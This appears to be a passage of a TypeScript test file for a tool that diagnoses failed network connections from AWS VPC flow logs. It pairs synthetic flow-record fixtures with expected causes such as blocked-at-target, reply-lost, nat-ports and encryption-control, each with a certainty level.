import type { LogDocument } from '@flowferry/core'
import { describe, expect, test } from 'vitest'
import {
  a,
  answered,
  arrived,
  at,
  b,
  change,
  eniB,
  evidence,
  good,
  log,
  logA,
  logB,
  pair,
  port,
  replied,
  seenBy,
  sent,
  transit,
} from '../../test/why/evidence.ts'
import { diagnose } from './diagnose.ts'
import { type Cause, type Certainty, certainties } from './diagnosis.ts'
import type { Evidence, InterfaceLog } from './evidence.ts'
import { table } from './table.ts'
import { wholeTable } from './whole.ts'

interface Expected {
  readonly row: string
  readonly name: string
  readonly evidence: Evidence
  readonly cause: Cause
  readonly certainty: Certainty
  readonly alternatives?: readonly Cause[]
}

const bare = { flags: undefined }
const aAlone = { interfaces: [logA] }
const bAlone = { interfaces: [logB] }
const acceptOnly = {
  interfaces: [
    { ...logA, rejects: false },
    { ...logB, rejects: false },
  ],
}
const skippedAtB = { interfaces: [logA, { ...logB, skipped: [{ start: at(9), end: at(12) }] }] }
const quietB = { ...logB, rejects: false }
const rejecting = { id: 'fl-2', covers: true, rejects: true, isShared: true }
const neighbour = (more: Parameters<typeof log>[2]) => log('eni-0ddddddddddddddd9', [], more)
const many = (count: number, of: (minute: number) => LogDocument[]) =>
  Array.from({ length: count }, (_, n) => of(n * 5)).flat()
const calls = (count: number, step = 1) =>
  many(count, (minute) => good({ minute: minute * step, clientPort: 40_000 + minute }))
const nat = 'eni-0ccccccccccccccc1'
const natAddress = '10.0.4.4'
const outside = '203.0.113.10'
const toOutside: Partial<Evidence> = {
  pair: { ...pair, b: outside },
  interfaces: [logA, log(nat, [], { type: 'nat_gateway' })],
}
const throughNat = { target: outside, more: { interface_type: 'nat_gateway' } }
const longWindows = (...minutes: number[]) =>
  minutes.flatMap((minute) => {
    const options = { minute, seconds: 570, packets: 150, bytes: 10_000 }
    const [request, reply] = [
      { ...options, flags: ['syn', 'fin'] as const },
      { ...options, flags: ['syn-ack', 'fin'] as const },
    ]
    return [sent(request), arrived(request), replied(reply), answered(reply)]
  })
const newer = (more = {}) => arrived({ reject: true, more: { version: '11', encryption_status: undefined, ...more } })
const revoked = change('RevokeSecurityGroupIngress', 9, {
  groupId: 'sg-00000000000000001',
  fromPort: port,
  toPort: port,
})
const authorized = change('AuthorizeSecurityGroupIngress', 9, { groupId: logB.id, fromPort: port, toPort: port })
const rerouted = change('DeleteRoute', 9, { subnetId: logB.subnet })
const enforced = change('ModifyVpcEncryptionControl', -20, { vpcEncryptionControlId: 'vpcec-00000000000000001' })
const passes = (one: InterfaceLog) => ({ ...one, passes: true })
const passing = { interfaces: [logA, logB].map(passes) }
const elsewhere = [10, 12, 14].map((minute) => sent({ target: '10.0.2.99', minute, clientPort: 41_000 + minute }))
const download = (minute: number, seconds: number, bytes: number) => {
  const options = { minute, seconds, clientPort: 40_000 + minute }
  const reply = { ...options, flags: ['syn-ack', 'fin'] as const, packets: 100, bytes }
  return [sent(options), arrived(options), replied(reply), answered(reply)]
}

/** Connections of very different lengths, of ten kilobytes a second each. */
const kept = (size: number) =>
  [10, 50, 12, 40, 11, 55, 10, 45, 12].flatMap((seconds, n) => {
    const options = { minute: n * 2, seconds, clientPort: 40_000 + n }
    const reply = {
      ...options,
      flags: ['syn-ack', 'fin'] as const,
      packets: (seconds * 10_000) / size,
      bytes: seconds * 10_000,
    }
    return [sent(options), arrived(options), replied(reply), answered(reply)]
  })

const undirected = (document: LogDocument): LogDocument => {
  const { direction: _, ...network } = document.network as { direction: string }
  return { ...document, network }
}
const interfaceOf = (document: LogDocument) =>
  (document.aws as { vpcflow: { interface_id: string } }).vpcflow.interface_id

const ended = (minute: number, clientPort = 40_000) => [
  ...[sent, arrived].map((leg) => leg({ minute, clientPort, flags: ['syn', 'fin'] })),
  ...[replied, answered].map((leg) => leg({ minute, clientPort, flags: ['syn-ack', 'fin'] })),
]
/** So many packets of a record that is rejected behind the orderly end of its connection. */
const behindThreeEnds = (packets: number) =>
  [11, 21, 31].flatMap((minute) => [
    ...ended(minute, 50_000 + minute),
    answered({ minute, seconds: 30, packets, clientPort: 50_000 + minute, flags: ['fin'], reject: true }),
  ])
const a6 = '2001:db8:1::10'
const b6 = '2001:db8:2::20'
const withSix: Partial<Evidence> = {
  pair: { ...pair, a: a6, b: b6 },
  interfaces: [
    { ...logA, holds: [a6] },
    { ...logB, holds: [b6] },
  ],
}

const cases: readonly Expected[] = [
  {
    row: '3',
    name: 'SYN-ACK rejected at an interface that has not seen the SYN',
    evidence: evidence([sent(), replied({ reject: true })]),
    cause: 'reply-blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['asymmetric'],
  },
  {
    row: '4',
    name: 'the same at A',
    evidence: evidence([arrived(), replied(), answered({ reject: true })]),
    cause: 'reply-blocked-at-source',
    certainty: 'consistent-with',
    alternatives: ['asymmetric'],
  },
  {
    row: '1',
    name: 'SYN rejected at B',
    evidence: evidence([sent(), arrived({ reject: true })]),
    cause: 'blocked-at-target',
    certainty: 'high',
  },
  {
    row: '1',
    name: 'the log has reject-reason',
    evidence: evidence([sent(), arrived({ reject: true })], { fields: ['reject-reason'] }),
    cause: 'blocked-at-target',
    certainty: 'certain',
  },
  {
    row: '1',
    name: 'version 8 is that of reject-reason',
    evidence: evidence([arrived({ reject: true, more: { version: '8' } })]),
    cause: 'blocked-at-target',
    certainty: 'certain',
  },
  {
    row: '1',
    name: 'not encrypted, reason not known',
    evidence: evidence([arrived({ reject: true, encrypted: false })]),
    cause: 'blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['encryption-control'],
  },
  {
    row: '1',
    name: 'from the internet, reason not known',
    evidence: evidence([arrived({ reject: true, client: outside })], { pair: { ...pair, a: outside }, ...bAlone }),
    cause: 'blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['public-access-blocked'],
  },
  {
    row: '1',
    name: 'addresses of IPv6 within a VPC, where no internet gateway is between',
    evidence: evidence([arrived({ reject: true, client: a6, target: b6, bytes: 240 })], withSix),
    cause: 'blocked-at-target',
    certainty: 'high',
  },
  {
    row: '1',
    name: 'addresses of IPv6 of two VPCs',
    evidence: evidence([arrived({ reject: true, client: a6, target: b6, bytes: 240 })], {
      ...withSix,
      interfaces: [
        { ...logA, holds: [a6] },
        { ...logB, holds: [b6], vpc: 'vpc-00000000000000002' },
      ],
    }),
    cause: 'blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['public-access-blocked'],
  },
  {
    row: '1',
    name: 'without flags',
    evidence: evidence([sent(bare), arrived({ ...bare, reject: true })]),
    cause: 'blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['late-packets'],
  },
  {
    row: '1',
    name: 'flags of a reject that AWS could not tell, of the size of a SYN',
    evidence: evidence([sent(), arrived({ ...bare, reject: true })]),
    cause: 'blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['late-packets'],
  },
  {
    row: '7',
    name: 'flags of a reject that AWS could not tell, larger than SYNs',
    evidence: evidence([sent(), arrived({ ...bare, packets: 20, bytes: 9000, reject: true })]),
    cause: 'late-packets',
    certainty: 'consistent-with',
    alternatives: ['blocked-at-target'],
  },
  {
    row: '2',
    name: 'SYN rejected at A',
    evidence: evidence([sent({ reject: true })]),
    cause: 'blocked-at-source',
    certainty: 'high',
  },
  {
    row: '3',
    name: 'SYN-ACK rejected at B',
    evidence: evidence([sent(), arrived(), replied({ reject: true })]),
    cause: 'reply-blocked-at-target',
    certainty: 'high',
  },
  {
    row: '4',
    name: 'SYN-ACK rejected at A',
    evidence: evidence([sent(), arrived(), replied(), answered({ reject: true })]),
    cause: 'reply-blocked-at-source',
    certainty: 'high',
  },
  {
    row: '1',
    name: 'SYN rejected, nothing tells where',
    evidence: evidence([arrived({ reject: true })], { interfaces: [] }),
    cause: 'blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['blocked-at-source'],
  },
  {
    row: '3',
    name: 'SYN-ACK rejected, nothing tells where',
    evidence: evidence([replied({ reject: true })], { interfaces: [] }),
    cause: 'reply-blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['reply-blocked-at-source'],
  },
  {
    row: '5',
    name: 'BPA',
    evidence: evidence([arrived({ reject: 'BPA' })]),
    cause: 'public-access-blocked',
    certainty: 'certain',
  },
  {
    row: '6',
    name: 'EC',
    evidence: evidence([sent({ reject: 'EC' })]),
    cause: 'encryption-control',
    certainty: 'certain',
  },
  {
    row: '7',
    name: 'no SYN rejected, new connections work',
    evidence: evidence([
      ...good(),
      answered({ minute: 11, flags: [], reject: true }),
      ...good({ minute: 13, clientPort: 40_001 }),
    ]),
    cause: 'late-packets',
    certainty: 'medium',
  },
  {
    row: '7',
    name: 'no SYN rejected, no new connection',
    evidence: evidence([...good(), answered({ minute: 11, flags: [], reject: true })]),
    cause: 'late-packets',
    certainty: 'consistent-with',
    alternatives: ['reply-blocked-at-source'],
  },
  {
    row: '',
    name: 'packets behind the orderly ends of three in two hundred connections',
    evidence: evidence([...calls(200, 0.05), ...behindThreeEnds(3)]),
    cause: 'no-fault',
    certainty: 'consistent-with',
    alternatives: ['slow'],
  },
  {
    row: '',
    name: 'one in ten has a packet behind its orderly end',
    evidence: evidence([...calls(30, 0.05), ...behindThreeEnds(1)]),
    cause: 'no-fault',
    certainty: 'consistent-with',
    alternatives: ['slow'],
  },
  {
    row: '7',
    name: 'one in ten is ended in order behind data that was rejected',
    evidence: evidence([
      ...calls(30, 0.05),
      ...[11, 21, 31].flatMap((minute) => [
        answered({ minute: minute - 1, packets: 8, bytes: 6016, clientPort: 50_000 + minute, flags: [], reject: true }),
        ...ended(minute, 50_000 + minute),
      ]),
    ]),
    cause: 'late-packets',
    certainty: 'medium',
  },
  {
    row: '',
    name: 'without flags, a packet behind data is no answer to a SYN',
    evidence: evidence([
      ...many(60, (n) => good({ minute: n * 0.05, flags: undefined, clientPort: 40_000 + n })),
      ...good({ minute: 8, packets: 20, bytes: 9000, flags: undefined, clientPort: 50_000 }),
      answered({ minute: 8, seconds: 5, packets: 1, clientPort: 50_000, flags: undefined, reject: true }),
      ...good({ minute: 59, packets: 20, bytes: 9000, flags: undefined, clientPort: 50_001 }),
    ]),
    cause: 'no-fault',
    certainty: 'consistent-with',
    alternatives: ['slow', 'refused', 'reset-by-target', 'reset-by-middlebox'],
  },
  {
    row: '17',
    name: 'B sees nothing of A, and may reject it unseen',
    evidence: evidence([], { pair: { ...pair, a: outside }, interfaces: [quietB] }),
    cause: 'calls-elsewhere',
    certainty: 'consistent-with',
    alternatives: [
      'blocked-at-source',
      'lost-on-the-way',
      'blocked-at-target',
      'public-access-blocked',
      'encryption-control',
    ],
  },
  {
    row: '8',
    name: 'left A, never reached B',
    evidence: evidence([sent()]),
    cause: 'lost-on-the-way',
    certainty: 'high',
  },
  {
    row: '8',
    name: 'rejects of B are not logged',
    evidence: evidence([sent()], acceptOnly),
    cause: 'lost-on-the-way',
    certainty: 'consistent-with',
    alternatives: ['blocked-at-target'],
  },
  {
    row: '8',
    name: 'rejects of B are not logged, and AWS does not encrypt it',
    evidence: evidence([sent({ encrypted: false })], acceptOnly),
    cause: 'lost-on-the-way',
    certainty: 'consistent-with',
    alternatives: ['blocked-at-target', 'encryption-control'],
  },
  {
    row: '8',
    name: 'newer than what is complete',
    evidence: evidence([sent()], {
      interfaces: [
        { ...logA, newest: at(11) },
        { ...logB, newest: at(11) },
      ],
    }),
    cause: 'lost-on-the-way',
    certainty: 'consistent-with',
  },
  { row: '8', name: 'without flags', evidence: evidence([sent(bare)]), cause: 'lost-on-the-way', certainty: 'medium' },
  {
    row: '8a',
    name: 'no route',
    evidence: evidence([sent()], { transit: [transit({ packets_lost_no_route: 3 })] }),
    cause: 'dropped-by-transit-gateway',
    certainty: 'certain',
  },
  {
    row: '9',
    name: 'SYN at B, no reply',
    evidence: evidence([sent(), arrived()]),
    cause: 'no-answer',
    certainty: 'high',
  },
  {
    row: '9',
    name: "B's interface has a flow log of its own, so that another one of B may have none",
    evidence: evidence([sent(), arrived()], {
      interfaces: [logA, { ...logB, flowLogs: [{ ...rejecting, isShared: false }] }],
    }),
    cause: 'no-answer',
    certainty: 'consistent-with',
    alternatives: ['asymmetric'],
  },
  {
    row: '9',
    name: 'one of two flow logs is of other interfaces, too',
    evidence: evidence([sent(), arrived()], {
      interfaces: [logA, { ...logB, flowLogs: [{ ...rejecting, id: 'fl-1', isShared: false }, rejecting] }],
    }),
    cause: 'no-answer',
    certainty: 'high',
  },
  {
    row: '9',
    name: 'rejects of B are not logged',
    evidence: evidence([sent(), arrived()], acceptOnly),
    cause: 'no-answer',
    certainty: 'consistent-with',
    alternatives: ['reply-blocked-at-target'],
  },
  {
    row: '10',
    name: 'RST to the SYN',
    evidence: evidence([sent(), arrived(), replied({ flags: ['rst'] }), answered({ flags: ['rst'] })]),
    cause: 'refused',
    certainty: 'high',
  },
  {
    row: '10',
    name: 'RST to the SYN, at A alone',
    evidence: evidence([sent(), answered({ flags: ['rst'] })], aAlone),
    cause: 'refused',
    certainty: 'consistent-with',
    alternatives: ['reset-by-target', 'reset-by-middlebox'],
  },
  {
    row: '11',
    name: 'SYN-ACK and RST of B in one record',
    evidence: evidence([
      sent(),
      arrived(),
      replied({ flags: ['syn-ack', 'rst'] }),
      answered({ flags: ['syn-ack', 'rst'] }),
    ]),
    cause: 'reset-by-target',
    certainty: 'high',
  },
  {
    row: '11',
    name: 'behind the end of another connection from the same port, and before that of a third',
    evidence: evidence([
      ...[0, 6].flatMap((minute) => ended(minute)),
      ...[sent, arrived].map((leg) => leg({ minute: 3, seconds: 20 })),
      ...[replied, answered].map((leg) => leg({ minute: 3, seconds: 20, flags: ['syn-ack', 'rst'] })),
      // What goes on in between holds them together as one.
      arrived({ minute: 0, seconds: 400, flags: [] }),
    ]),
    cause: 'reset-by-target',
    certainty: 'high',
  },
  {
    row: '11',
    name: "in a window of B that holds the end of another connection from the same port, which A's windows tell apart",
    evidence: evidence([
      sent({ minute: 0, flags: ['syn', 'fin'] }),
      answered({ minute: 0, flags: ['syn-ack', 'fin'] }),
      sent({ minute: 3 }),
      answered({ minute: 3, flags: ['syn-ack', 'rst'] }),
      arrived({ minute: 0, seconds: 200, flags: ['syn', 'fin'] }),
      replied({ minute: 0, seconds: 200, flags: ['syn-ack', 'rst', 'fin'] }),
    ]),
    cause: 'reset-by-target',
    certainty: 'high',
  },
  {
    row: '',
    name: 'a reset behind the orderly end of its connection',
    evidence: evidence([...ended(0), ...[replied, answered].map((leg) => leg({ minute: 1, flags: ['rst'] }))]),
    cause: 'no-fault',
    certainty: 'consistent-with',
    alternatives: ['slow'],
  },
  {
    row: '10',
    name: 'RST to the SYN, behind an answered connection from the same port',
    evidence: evidence([
      ...ended(0),
      ...[sent, arrived].map((leg) => leg({ minute: 3 })),
      ...[replied, answered].map((leg) => leg({ minute: 3, flags: ['rst'] })),
      arrived({ minute: 0, seconds: 200, flags: [] }),
    ]),
    cause: 'refused',
    certainty: 'high',
  },
  {
    row: '10',
    name: 'RST to a SYN that has data, as of TCP Fast Open',
    evidence: evidence([
      ...[sent, arrived].map((leg) => leg({ packets: 1, bytes: 300 })),
      ...[replied, answered].map((leg) => leg({ flags: ['rst'], packets: 1 })),
    ]),
    cause: 'refused',
    certainty: 'high',
  },
  {
    row: '11',
    name: 'RST to data of A, where the record of the answer to its SYN is missing',
    evidence: evidence([
      ...[sent, arrived].map((leg) => leg({ packets: 10, bytes: 2706 })),
      ...[replied, answered].map((leg) => leg({ flags: ['rst'] })),
    ]),
    cause: 'reset-by-target',
    certainty: 'high',
  },
  {
    row: '',
    name: 'RST to an end of A, likewise',
    evidence: evidence([
      ...[sent, arrived].map((leg) => leg({ flags: ['syn', 'fin'] })),
      ...[replied, answered].map((leg) => leg({ flags: ['rst'] })),
    ]),
    cause: 'no-fault',
    certainty: 'consistent-with',
    alternatives: ['slow'],
  },
  {
    row: '11',
    name: 'a reset at A alone',
    evidence: evidence([sent(), answered({ flags: ['syn-ack', 'rst'] })], aAlone),
    cause: 'reset-by-target',
    certainty: 'consistent-with',
    alternatives: ['reset-by-middlebox'],
  },
  {
    row: '10',
    name: 'RST to the SYN at A, where B skipped records',
    evidence: evidence([sent(), answered({ flags: ['rst'] })], skippedAtB),
    cause: 'refused',
    certainty: 'consistent-with',
    alternatives: ['reset-by-target', 'reset-by-middlebox'],
  },
  {
    row: '11',
    name: 'a reset at A, where B skipped records',
    evidence: evidence([sent(), answered({ flags: ['syn-ack', 'rst'] })], skippedAtB),
    cause: 'reset-by-target',
    certainty: 'consistent-with',
    alternatives: ['reset-by-middlebox'],
  },
  {
    row: '11a',
    name: 'RST at A, none of B',
    evidence: evidence([...good(), answered({ minute: 18, flags: ['rst'] })]),
    cause: 'reset-by-middlebox',
    certainty: 'medium',
  },
  {
    row: '12',
    name: 'B answered, nothing at A',
    evidence: evidence([sent(), arrived(), replied()]),
    cause: 'reply-lost',
    certainty: 'high',
  },
  {
    row: '12',
    name: 'rejects of A are not logged',
    evidence: evidence([sent(), arrived(), replied()], acceptOnly),
    cause: 'reply-lost',
    certainty: 'consistent-with',
    alternatives: ['reply-blocked-at-source'],
  },
  {
    row: '13',
    name: 'the reply leaves by another interface',
    evidence: evidence([sent(), arrived(), seenBy('eni-0ddddddddddddddd1', 'egress', true)]),
    cause: 'asymmetric',
    certainty: 'high',
  },
  {
    row: '13',
    name: 'the reply leaves by another interface, and the log has no directions',
    evidence: evidence(
      [
        sent(),
        arrived(),
        seenBy('eni-0ddddddddddddddd1', 'egress', true, { target: '10.0.2.21', more: { pkt_srcaddr: b } }),
      ].map(({ network, ...document }) => ({ ...document, network: { ...(network as object), direction: undefined } })),
    ),
    cause: 'asymmetric',
    certainty: 'high',
  },
  {
    row: '',
    name: 'well to the end of the span, and the logs go on',
    evidence: evidence(calls(12), {
      interfaces: [
        { ...logA, rejects: false, newest: at(200) },
        { ...logB, newest: at(200) },
      ],
    }),
    cause: 'no-fault',
    certainty: 'consistent-with',
    alternatives: ['slow', 'late-packets'],
  },
  {
    row: '14',
    name: 'large packets are missing at B',
    evidence: evidence([
      sent({ packets: 40, bytes: 50_000 }),
      arrived({ packets: 10, bytes: 800 }),
      replied(),
      answered(),
    ]),
    cause: 'mtu',
    certainty: 'consistent-with',
  },
  {
    row: '15',
    name: 'a tenth of the bytes a second',
    evidence: evidence([
      ...[0, 1, 2, 3].flatMap((minute) => download(minute, 1, 900_000)),
      ...[4, 5, 6, 7].flatMap((minute) => download(minute, 20, 900_000)),
    ]),
    cause: 'slow',
    certainty: 'consistent-with',
    alternatives: ['no-fault'],
  },
  {
    row: '15',
    name: 'as slow for few bytes as for many, in full packets',
    evidence: evidence(kept(1400)),
    cause: 'slow',
    certainty: 'consistent-with',
    alternatives: ['no-fault'],
  },
  {
    row: '',
    name: 'the same in small packets: connections that are kept open between answers',
    evidence: evidence(kept(500)),
    cause: 'no-fault',
    certainty: 'medium',
    alternatives: ['slow'],
  },
  {
    row: '16',
    name: 'into the NAT gateway, not out of it',
    evidence: evidence([sent({ target: outside }), seenBy(nat, 'ingress', false, throughNat)], toOutside),
    cause: 'nat-ports',
    certainty: 'medium',
  },
  {
    row: '16',
    name: 'the same of a log without directions, which does not tell what leaves',
    evidence: evidence(
      [sent({ target: outside }), seenBy(nat, 'ingress', false, throughNat)].map(undirected),
      toOutside,
    ),
    cause: 'nat-ports',
    certainty: 'consistent-with',
    alternatives: ['lost-on-the-way', 'no-answer'],
  },
  {
    row: '16',
    name: "into the NAT gateway, and what leaves it has the end of another's connection",
    evidence: evidence(
      [
        sent({ target: outside }),
        seenBy(nat, 'ingress', false, throughNat),
        seenBy(nat, 'egress', false, {
          ...throughNat,
          client: natAddress,
          clientPort: 2000,
          flags: ['syn', 'fin'],
          packets: 6,
          bytes: 520,
        }),
      ],
      toOutside,
    ),
    cause: 'nat-ports',
    certainty: 'medium',
  },
  {
    row: '18',
    name: 'out of the NAT gateway, and no answer',
    evidence: evidence(
      [
        sent({ target: outside }),
        seenBy(nat, 'ingress', false, throughNat),
        seenBy(nat, 'egress', false, { ...throughNat, client: natAddress, clientPort: 2000 }),
      ],
      toOutside,
    ),
    cause: 'no-answer',
    certainty: 'consistent-with',
    alternatives: [
      'blocked-at-target',
      'public-access-blocked',
      'lost-on-the-way',
      'reply-blocked-at-target',
      'reply-lost',
      'asymmetric',
    ],
  },
  {
    row: '17',
    name: 'nothing to B, but to another',
    evidence: evidence([], { elsewhere }),
    cause: 'calls-elsewhere',
    certainty: 'medium',
  },
  {
    row: '17',
    name: 'B sees nothing of A, whose side is not logged',
    evidence: evidence([], bAlone),
    cause: 'calls-elsewhere',
    certainty: 'consistent-with',
    alternatives: ['blocked-at-source', 'lost-on-the-way'],
  },
  {
    row: '2',
    name: 'nothing of A, whose rejects are not logged',
    evidence: evidence([], acceptOnly),
    cause: 'blocked-at-source',
    certainty: 'consistent-with',
    alternatives: ['calls-elsewhere'],
  },
  {
    row: '18',
    name: 'no answer of a public address, in what AWS does not encrypt, B not logged',
    evidence: evidence([sent({ encrypted: false, target: outside })], { pair: { ...pair, b: outside }, ...aAlone }),
    cause: 'no-answer',
    certainty: 'consistent-with',
    alternatives: [
      'blocked-at-target',
      'public-access-blocked',
      'encryption-control',
      'lost-on-the-way',
      'reply-blocked-at-target',
      'reply-lost',
      'asymmetric',
      'nat-ports',
    ],
  },
  {
    row: '18',
    name: 'no answer, B not logged',
    evidence: evidence([sent()], aAlone),
    cause: 'no-answer',
    certainty: 'consistent-with',
    alternatives: ['blocked-at-target', 'lost-on-the-way', 'reply-blocked-at-target', 'reply-lost', 'asymmetric'],
  },
  {
    row: '18',
    name: 'B answers again and again, A not logged',
    evidence: evidence([arrived(), replied()], bAlone),
    cause: 'reply-lost',
    certainty: 'consistent-with',
    alternatives: ['reply-blocked-at-source'],
  },
  {
    row: '18',
    name: 'neither side logged',
    evidence: evidence([], { interfaces: [] }),
    cause: 'cannot-tell',
    certainty: 'cannot-tell',
  },
  {
    row: '18',
    name: 'SKIPDATA',
    evidence: evidence([], {
      interfaces: [logA, logB].map((log) => ({ ...log, skipped: [{ start: pair.since, end: pair.until }] })),
    }),
    cause: 'cannot-tell',
    certainty: 'cannot-tell',
  },
  {
    row: '18',
    name: 'Amazon DNS',
    evidence: evidence([], { pair: { ...pair, b: '10.0.0.2', port: 53 }, ...aAlone }),
    cause: 'cannot-tell',
    certainty: 'cannot-tell',
  },
  {
    row: '18',
    name: 'UDP without an answer',
    evidence: evidence([sent, arrived].map((leg) => leg({ protocol: '17', flags: [] }))),
    cause: 'cannot-tell',
    certainty: 'cannot-tell',
  },
  {
    row: '17',
    name: 'A sends nothing',
    evidence: evidence([]),
    cause: 'calls-elsewhere',
    certainty: 'consistent-with',
  },
  {
    row: '18',
    name: 'the midst of a connection, of which nothing else is seen',
    evidence: evidence([arrived({ flags: [], packets: 90, bytes: 90_000 })], bAlone),
    cause: 'cannot-tell',
    certainty: 'cannot-tell',
  },
  {
    row: '18',
    name: 'B logs rejects alone',
    evidence: evidence([sent()], { interfaces: [logA, { ...logB, accepts: false }] }),
    cause: 'no-answer',
    certainty: 'consistent-with',
    alternatives: ['blocked-at-target', 'lost-on-the-way', 'reply-blocked-at-target', 'reply-lost', 'asymmetric'],
  },
  {
    row: '18',
    name: 'records that B skipped',
    evidence: evidence([sent()], skippedAtB),
    cause: 'no-answer',
    certainty: 'consistent-with',
    alternatives: ['blocked-at-target', 'lost-on-the-way', 'reply-blocked-at-target', 'reply-lost', 'asymmetric'],
  },
  ...(
    [
      ['B skipped records of them', { interfaces: [logA, { ...logB, skipped: [{ start: at(0), end: at(60) }] }] }, 0],
      ['they are too new', { interfaces: [logA, logB].map((log) => ({ ...log, newest: at(8) })) }, 0],
      ['at B is nothing of them', {}, 1],
    ] as const
  ).map(
    ([name, more, side]): Expected => ({
      row: '',
      name: `all is well, and at the same rate, but ${name}`,
      evidence: evidence(
        [0, 1, 2, 3, 4, 5]
          .flatMap((minute) => download(minute, 1, 900_000))
          .filter((document) => side === 0 || interfaceOf(document) !== eniB),
        more,
      ),
      cause: 'no-fault',
      certainty: 'consistent-with',
      alternatives: ['slow'],
    }),
  ),
  {
    row: '18',
    name: 'logs of neither accepted nor rejected traffic',
    evidence: evidence([], { interfaces: [logA, logB].map((log) => ({ ...log, accepts: false, rejects: false })) }),
    cause: 'cannot-tell',
    certainty: 'cannot-tell',
  },
  {
    row: '',
    name: 'all is well',
    evidence: evidence(calls(5)),
    cause: 'no-fault',
    certainty: 'consistent-with',
    alternatives: ['slow'],
  },
  {
    row: '',
    name: 'all is well, and at the same rate',
    evidence: evidence([0, 1, 2, 3, 4, 5].flatMap((minute) => download(minute, 1, 900_000))),
    cause: 'no-fault',
    certainty: 'medium',
    alternatives: ['slow'],
  },
  {
    row: '1',
    name: 'a log of fields newer than reject-reason, which it may lack',
    evidence: evidence([newer()]),
    cause: 'blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['encryption-control'],
  },
  {
    row: '1',
    name: 'such a log, where both interfaces pass what others send them meanwhile',
    evidence: evidence([newer()], passing),
    cause: 'blocked-at-target',
    certainty: 'high',
  },
  {
    row: '1',
    name: 'such a log, where one of them does',
    evidence: evidence([newer()], { interfaces: [logA, { ...logB, passes: true }] }),
    cause: 'blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['encryption-control'],
  },
  {
    row: '1',
    name: 'such a log, where others are no measure: their hardware is behind a gateway',
    evidence: evidence([newer()], { interfaces: [logA, { ...logB, vpc: 'vpc-00000000000000002' }].map(passes) }),
    cause: 'blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['encryption-control'],
  },
  {
    row: '1',
    name: 'such a log, where it was let pass until a group was changed',
    evidence: evidence([...good({ minute: 3 }), newer()], { changes: [revoked] }),
    cause: 'blocked-at-target',
    certainty: 'high',
  },
  ...(
    [
      ['it was not let pass before', [newer()], [revoked]],
      ['nothing was changed', [...good({ minute: 3 }), newer()], []],
      ['what was changed lets no more or less in', [...good({ minute: 3 }), newer()], [rerouted]],
      ['it was given a rule, which only allows', [...good({ minute: 3 }), newer()], [authorized]],
      ['encryption controls were changed as well', [...good({ minute: 3 }), newer()], [revoked, enforced]],
      ['its fields are older', [...good({ minute: 3 }), newer({ version: '7' })], [revoked]],
    ] as const
  ).map(
    ([name, flows, changes]): Expected => ({
      row: '1',
      name: `a group was changed, but ${name}`,
      evidence: evidence(flows, { changes }),
      cause: 'blocked-at-target',
      certainty: 'consistent-with',
      alternatives: ['encryption-control'],
    }),
  ),
  {
    row: '1',
    name: 'a log of older fields, whatever others do',
    evidence: evidence([newer({ version: '7' })], passing),
    cause: 'blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['encryption-control'],
  },
  {
    row: '1',
    name: 'not encrypted, whatever others do',
    evidence: evidence([newer({ encryption_status: '0' })], passing),
    cause: 'blocked-at-target',
    certainty: 'consistent-with',
    alternatives: ['encryption-control'],
  },
  {
    row: '1',
    name: 'not encrypted, at an interface that lets such traffic pass meanwhile',
    evidence: evidence([arrived({ reject: true, encrypted: false })], {
      interfaces: [logA, { ...logB, plain: true }],
    }),
    cause: 'blocked-at-target',
    certainty: 'high',
  },
  {
    row: '',
    name: 'one port all the time, in windows of ten minutes, and rejects that are not logged',
    evidence: evidence(longWindows(0, 10, 20, 30, 40, 50), acceptOnly),
    cause: 'no-fault',
    certainty: 'consistent-with',
    alternatives: ['slow', 'late-packets'],
  },
  {
    row: '1',
    name: 'another record of the interface has a reject-reason',
    evidence: evidence([arrived({ reject: true })], { interfaces: [logA, { ...logB, reasons: true }] }),
    cause: 'blocked-at-target',
    certainty: 'certain',
  },
  {
    row: '8',
    name: "B's flow log has rejects of another interface",
    evidence: evidence([sent()], {
      interfaces: [logA, { ...quietB, flowLogs: [{ ...rejecting, id: 'fl-1', rejects: false }, rejecting] }],
    }),
    cause: 'lost-on-the-way',
    certainty: 'high',
  },
  {
    row: '8',
    name: "a flow log that has rejects is not of all the span, and B's own REJECT was of it",
    evidence: evidence([sent()], {
      interfaces: [
        logA,
        {
          ...logB,
          flowLogs: [
            { ...rejecting, covers: false },
            { ...rejecting, id: 'fl-1', rejects: false },
          ],
        },
      ],
    }),
    cause: 'lost-on-the-way',
    certainty: 'medium',
    alternatives: ['blocked-at-target'],
  },
  {
    row: '8',
    name: "B's flow log has none, and those of other interfaces of the subnet have",
    evidence: evidence([sent()], {
      interfaces: [
        logA,
        { ...quietB, flowLogs: [{ ...rejecting, id: 'fl-1', rejects: false }] },
        neighbour({ subnet: logB.subnet! }),
        neighbour({ subnet: logB.subnet!, flowLogs: [rejecting] }),
      ],
    }),
    cause: 'lost-on-the-way',
    certainty: 'consistent-with',
    alternatives: ['blocked-at-target'],
  },
  {
    row: '8',
    name: 'other interfaces of the subnet reject, which may have flow logs of their own',
    evidence: evidence([sent()], {
      interfaces: [logA, quietB, neighbour({ subnet: logB.subnet! }), neighbour({ subnet: logB.subnet! })],
    }),
    cause: 'lost-on-the-way',
    certainty: 'medium',
    alternatives: ['blocked-at-target'],
  },
  {
    row: '8',
    name: 'another interface of the VPC alone rejects',
    evidence: evidence([sent()], { interfaces: [{ ...logA, rejects: false }, quietB, neighbour({ vpc: logB.vpc! })] }),
    cause: 'lost-on-the-way',
    certainty: 'consistent-with',
    alternatives: ['blocked-at-target'],
  },
  {
    row: '8',
    name: 'into a transit gateway that has no log',
    evidence: evidence([sent(), seenBy('eni-0eeeeeeeeeeeeeee1', 'ingress', false)]),
    cause: 'lost-on-the-way',
    certainty: 'consistent-with',
    alternatives: ['dropped-by-transit-gateway'],
  },
  {
    row: '12',
    name: "B's interface rejects, A's subnet is not seen to",
    evidence: evidence([sent(), arrived(), replied()], { interfaces: [{ ...logA, rejects: false }, logB] }),
    cause: 'reply-lost',
